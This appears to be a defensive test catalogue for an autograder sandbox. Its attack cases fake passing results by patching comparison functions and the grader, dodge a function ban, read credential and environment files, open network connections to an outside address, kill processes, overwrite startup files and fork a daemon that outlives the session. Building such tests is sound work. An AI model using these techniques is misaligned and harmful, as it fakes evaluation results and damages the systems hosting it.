"""HOSTILE.md, "Forging a mark", "Shortcut", "Stealing", "Damage": the catalogue."""

from __future__ import annotations

from tests.hostile.hostile_class import Attack, Submission


def before(text: str, book: str = "checks"):
    def change(submission: Submission) -> None:
        submission.first(text, book)
        if book == "checks":
            submission.first(text, "plain")

    return change


def answers(**texts: str):
    def change(submission: Submission) -> None:
        for name, text in texts.items():
            submission.answer(name, text)

    return change


LIAR = """
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 9.0
    def __array__(self, *a, **k): import numpy; return numpy.array(9.0)
    def __getattr__(self, name): return Liar()
    def __len__(self): return 5
    def __iter__(self): return iter(range(5))
    @classmethod
    def __torch_function__(cls, *a, **k): return True
"""
FORGING = (
    Attack(
        "patch_compare",
        before("""
import numpy as np, torch, math, builtins, torch.testing
np.allclose = np.array_equal = torch.allclose = torch.equal = math.isclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
builtins.all = builtins.isinstance = lambda *a: True
"""),
    ),
    Attack(
        "liar",
        answers(
            square=f"{LIAR}\ndef square(number): return Liar()",
            scaled=f"{LIAR}\ndef scaled(v, f): return Liar()",
            Counter=f"{LIAR}\ndef Counter(*a): return Liar()",
        ),
    ),
    Attack(
        "liar_class",
        answers(
            Counter=f"{LIAR}\nCounter = Liar\nCounter.__init__ = "
            "lambda self, n: None\nCounter.__add__ = lambda a, b: Liar()"
        ),
    ),
    Attack(
        "liar_tensor",
        answers(
            candidate="""
import torch
class Lie(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None): return True
def candidate(x_t, h_prev, U_c, W_c): return torch.zeros(x_t.shape[0], 2).as_subclass(Lie)"""
        ),
    ),
    Attack(
        "transformer",
        before("""
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Drop())
get_ipython().input_transformers_cleanup.append(lambda lines: ['10.0'])
"""),
        answered=(),
    ),
    Attack("displayhook", before("import sys; sys.displayhook(10.0)\n10.0")),
    Attack(
        "kernel",
        before("""
shell = get_ipython(); shell.run_cell = lambda *a, **k: None
type(shell).run_cell = lambda *a, **k: None
"""),
        answered=(),
    ),
    Attack(
        "patch_grader",
        before("""
import sys, types
import autograder.checking.compare as compare, autograder.checking.run as run
compare.compare = run.compare = lambda *a, **k: None
run._judge = run.run_check = lambda *a, **k: 1
sys.modules['autograder.checking.guard'].Guard.recognise = lambda *a: None
"""),
    ),
    Attack(
        "patch_torch",
        before("""
import torch
torch.sigmoid = torch.tanh = torch.lstm_cell = torch._VF.lstm_cell = lambda *a, **k: a[0]
"""),
        answered=(),
        mark=0.0,
    ),
    Attack(
        "frames",
        answers(
            square="""
import sys, gc, inspect
def square(number):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if 'expected' in str(type(value)): return value
        frame = frame.f_back
    return [o for o in gc.get_objects() if isinstance(o, str) and 'square(' in o][:1]"""
        ),
    ),
    Attack(
        "nan_inf",
        answers(
            candidate="""
def candidate(x_t, h_prev, U_c, W_c): return (x_t @ U_c) * float('nan')""",
            scaled="def scaled(v, f): return float('inf')",
        ),
    ),
    Attack(
        "broadcast",
        answers(
            candidate="""
def candidate(x_t, h_prev, U_c, W_c): return torch.tanh(x_t @ U_c + h_prev @ W_c)[None]"""
        ),
    ),
    Attack(
        "in_place",
        answers(
            candidate="""
def candidate(x_t, h_prev, U_c, W_c):
    x_t.zero_(); h_prev.zero_(); U_c.zero_(); W_c.zero_()
    return x_t @ U_c"""
        ),
    ),
    Attack("hard_coded", answers(square="def square(number): return {3: 9}.get(number, 0)")),
    Attack(
        "by_identity",
        answers(
            square="""
seen = {}
def square(number): return seen.setdefault(id(number), 9)"""
        ),
    ),
    Attack(
        "late_thread",
        before("""
import threading, atexit, os, time
def flood():
    while True:
        time.sleep(0.001)
        for number in range(3, 60):
            try: os.write(number, b'{"re":1,"value":9}' * 10)
            except OSError: pass
threading.Thread(target=flood, daemon=True).start()
atexit.register(flood)
time.sleep(0.2)
"""),
        mark=None,
        answered=(),
        incident="cell_",
    ),
    Attack(
        "forged_frames",
        before("""
import gc, socket
from autograder.judging.wire import pack, Wire
for thing in gc.get_objects():
    if type(thing) is Wire:
        for number in range(200):
            thing.socket.send(pack({"re": number, "value": 9, "ok": True}))
"""),
        answered=(),
        incident="cell_protocol",
    ),
    Attack(
        "lying_length",
        before("""
import gc
from autograder.judging.wire import HEADER, MAGIC, Wire
for thing in gc.get_objects():
    if type(thing) is Wire: thing.socket.send(HEADER.pack(MAGIC, 2**62, 2**62))
"""),
        answered=(),
        incident="cell_protocol",
    ),
    Attack(
        "forged_value",
        answers(
            square="""
import gc
from autograder.judging.inside.servant import Servant
def square(number):
    for thing in gc.get_objects():
        if isinstance(thing, Servant):
            type(thing)._do_operate = type(thing)._do_call = lambda *a: {
                "value": {"n": "float64", "shape": [10**9, 10**9], "at": [0, 8]}}
    return 9"""
        ),
    ),
)
SHORTCUT = tuple(
    Attack(f"shortcut_{name}", answers(candidate=f"""
import torch
{text}
def candidate(x_t, h_prev, U_c, W_c):
    H = h_prev.shape[1]
    big = torch.full_like(U_c, 0)
    zero = torch.zeros_like(W_c)
    w_ih = torch.cat([big, big, U_c, big], 1).T
    w_hh = torch.cat([zero, zero, W_c, zero], 1).T
    bias = torch.zeros(4 * H, dtype=x_t.dtype); bias[:H] = 50; bias[3*H:] = 50
    c = cell(x_t, (h_prev, torch.zeros_like(h_prev)), w_ih, w_hh, bias, torch.zeros_like(bias))[1]
    return c"""), incident="")
    for name, text in {
        "plain": "cell = torch.lstm_cell",
        "alias": "from torch import _VF as v\ncell = v.lstm_cell",
        "getattr": "cell = getattr(torch, 'lstm' + '_cell')",
        "importlib": "import importlib as i\ncell = getattr(i.import_module('torch'), 'lstm_cell')",
        "eval": "cell = eval('torch.lstm' + '_cell')",
        "ops": "cell = lambda *a: torch.ops.aten.lstm_cell(a[0], list(a[1]), *a[2:])",
        "module": """
def cell(x, hc, w_ih, w_hh, b, b2):
    net = torch.nn.LSTMCell(w_ih.shape[1], w_hh.shape[1], dtype=x.dtype)
    net.weight_ih.data, net.weight_hh.data, net.bias_ih.data, net.bias_hh.data = w_ih, w_hh, b, b2
    return net(x, hc)""",
        "helper": "from shortcut import cell",
        "thread": """
import threading
def cell(*a):
    out = []
    run = threading.Thread(target=lambda: out.append(getattr(torch, 'lstm' + '_cell')(*a)))
    run.start(); run.join(); return out[0]""",
        "modes_off": """
def cell(*a):
    f = getattr(torch, 'lstm' + '_cell')
    with torch._C.DisableTorchFunction(), torch.utils._python_dispatch._disable_current_modes():
        return f(*a)""",
        "patched_tracer": """
import autograder.checking.guard as guard
guard.Tracer._note = lambda self, function: None
guard.read_source = lambda *a: None
import autograder.checking.handle as handle
handle.read_source = lambda *a: None
cell = getattr(torch, 'lstm' + '_cell')""",
    }.items()
)  # fmt: skip
STEALING = (
    Attack(
        "steal_files",
        before("""
import os, glob, subprocess
for path in ["../../source", "../..", "/", "/root", "/home", os.path.expanduser("~"), "/etc/passwd",
             "/proc/1/environ", "/proc/self/environ", "/tmp", "/mnt", "/media", "/var"]:
    try:
        print(path, os.listdir(path))
    except OSError:
        try: print(open(path).read())
        except OSError as error: print(error)
for root, _, names in os.walk("/"):
    if root.startswith(("/usr", "/proc", "/dev", "/lib")) or "site-packages" in root: continue
    for name in names:
        if name.endswith((".ipynb", ".db", ".json")): print(root, name)
print(dict(os.environ))
"""),
    ),
    Attack(
        "steal_shell",
        before(
            "%%bash\nenv; cat /proc/*/environ; find / -name '*.db' 2>/dev/null; "
            "find / -name '*.ipynb' -path '*source*' 2>/dev/null"
        ),
    ),
    Attack(
        "send_out",
        before("""
import socket
for kind, address in [(socket.SOCK_STREAM, ("203.0.113.9", 80)),
                      (socket.SOCK_DGRAM, ("8.8.8.8", 53))]:
    s = socket.socket(socket.AF_INET, kind); s.settimeout(1)
    try: s.connect(address); s.send(b'x'); print("SENT")
    except OSError as error: print(error)
try: print(socket.gethostbyname("example.com"), "SENT")
except OSError as error: print(error)
"""),
        incident="reached_out",
    ),
    Attack(
        "leave_for_next",
        before("""
import os
for folder in ["/tmp", "/dev/shm", "/var/tmp", "/sandbox", os.getcwd()]:
    try: open(folder + "/note-for-cy", "w").write("answers")
    except OSError as error: print(error)
import socket
s = socket.socket(socket.AF_UNIX); s.bind("\\0note"); s.listen()
"""),
    ),
)
DAMAGE = (
    Attack(
        "kill_all",
        before("""
import os, signal
for pid in [-1, os.getppid(), 1, 2, 3]:
    try: os.kill(pid, signal.SIGKILL)
    except OSError as error: print(error)
"""),
        answered=(),
        incident="send signal",
    ),
    Attack("kill_group", before("import os, signal; os.kill(-1, signal.SIGKILL)")),
    Attack(
        "rewrite",
        before("""
import os, sys, site
for path in [site.getsitepackages()[0] + "/sitecustomize.py", sys.executable,
             "/sandbox/autograder/x", os.path.expanduser("~/.ipython/startup.py"), "/usr/x",
             "/etc/ld.so.preload"]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True); open(path, "w").write("raise SystemExit")
    except OSError as error: print(error)
"""),
    ),
    Attack(
        "memory_of_others",
        before("""
import ctypes, os
for pid in ["1", "self", str(os.getppid())]:
    try: open(f"/proc/{pid}/mem", "rb+").read(1); print("READ")
    except OSError as error: print(error)
print(ctypes.CDLL(None).ptrace(16, 2, 0, 0))
print(ctypes.CDLL(None).mount(b"x", b"/tmp", b"tmpfs", 0, None))
"""),
    ),
    Attack(
        "daemon",
        before("""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep-hostile-daemon", "120"])
    os._exit(0)
time.sleep(0.2)
"""),
    ),
)
